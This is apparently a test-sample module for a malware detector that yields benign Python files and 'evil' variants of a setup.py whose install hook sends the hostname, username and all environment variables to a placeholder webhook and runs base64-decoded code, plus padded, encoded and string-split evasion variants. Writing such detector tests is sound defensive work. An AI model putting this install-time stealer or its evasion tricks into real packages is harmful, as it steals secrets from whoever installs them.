"""The learned detector: what is like known malware, and what is not."""
import base64

from sample import Sample

HOST = "https://example.invalid"

# The shape of it without the malice: nothing of this reaches anybody.
STEALER = f"""
from setuptools import setup
from setuptools.command.install import install
import base64, os, socket, getpass, requests

class Install(install):
    def run(self):
        install.run(self)
        data = {{'host': socket.gethostname(), 'user': getpass.getuser(), 'env': dict(os.environ)}}
        requests.post('{HOST}/api/webhooks/1', json={{'content': str(data)}})
        exec(base64.b64decode('dHJ1ZQ=='))

setup(name='x', version='1.0', cmdclass={{'install': Install}})
"""

PLAIN = '''
"""Shapes and what they measure."""
import dataclasses
import math


@dataclasses.dataclass(frozen=True)
class Circle:
    """A circle about the origin."""

    radius: float

    def __post_init__(self):
        if self.radius < 0:
            raise ValueError(f"the radius is negative: {self.radius}")

    def area(self) -> float:
        return math.pi * self.radius**2

    def scaled(self, factor: float) -> "Circle":
        return dataclasses.replace(self, radius=self.radius * factor)


def total(shapes) -> float:
    return sum(shape.area() for shape in shapes)
'''


DECLARES = "from setuptools import setup\nsetup(name='requests', version='1.0.0')\n"


def samples():
    yield Sample("ok", "declares_py/setup.py", DECLARES.encode())
    yield Sample("ok", "plain_py/shapes.py", PLAIN.encode())
    yield Sample("ok", "plain_long_py/shapes.py", (PLAIN * 200).encode())
    wanted = {"learned-malicious", "behaviour-decode-and-run", "behaviour-environment-sent", "behaviour-install-reaches-network"}
    yield Sample("evil", "stealer_py/setup.py", STEALER.encode(), wanted)
    yield Sample("evil", "stealer_padded_py/setup.py", (PLAIN * 50 + STEALER + PLAIN * 50).encode(), wanted)
    # In plain sight nothing of it; what it decodes is told apart from it.
    hidden = base64.b64encode(STEALER.encode()).decode()
    yield Sample("evil", "stealer_decoded_py/shapes.py", f"{PLAIN}\nimport base64\n\nTEXT = base64.b64decode('{hidden}')\n".encode(),
                 {"learned-malicious", "behaviour-decode-and-run"})
    split = STEALER.replace("'install'", "'ins' + 'tall'").replace("webhooks", "web' + 'hooks")
    yield Sample("evil", "stealer_split_py/setup.py", split.encode(), wanted)
